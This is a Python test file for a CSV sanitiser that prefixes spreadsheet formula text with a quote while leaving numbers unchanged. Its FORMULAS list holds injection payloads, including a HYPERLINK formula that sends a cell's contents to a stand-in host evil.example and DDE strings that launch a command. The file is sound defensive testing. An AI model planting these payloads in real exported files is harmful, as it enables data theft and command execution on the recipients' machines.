"""CSV cells a spreadsheet cannot run as formulas, with numbers kept as numbers."""

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from wardapp.core.csvsafe import FORMULA_START, safe_cell, write_rows

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "-1.2e",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_starts_a_formula_is_prefixed(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-1.2, "-1.2"),
        (54.5541, "54.5541"),
        (-1, "-1"),
        (0, "0"),
        ("-1.2", "-1.2"),  # a longitude already written as text is still a number
        ("+44", "+44"),
        ("-.5", "-.5"),
        ("1e-3", "1e-3"),
        (None, ""),
        (True, "true"),
        ("Brambles & Thorntree", "Brambles & Thorntree"),
        ("St. Germain's", "St. Germain's"),
        ({"reason": "=x"}, '{"reason": "=x"}'),  # JSON starts with "{": no formula
    ],
)
def test_numbers_and_ordinary_text_are_unchanged(value: object, cell: str) -> None:
    assert safe_cell(value) == cell


@settings(deadline=None, max_examples=200)
@given(st.text())
def test_no_text_cell_read_back_starts_a_formula(text: str) -> None:
    out = io.StringIO(newline="")
    write_rows(out, ["value"], [[text]])
    header, (cell,) = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert header == ["value"]
    if cell.startswith(FORMULA_START):
        float(cell)  # only a number may start with a sign
    assert cell in (text, "'" + text)
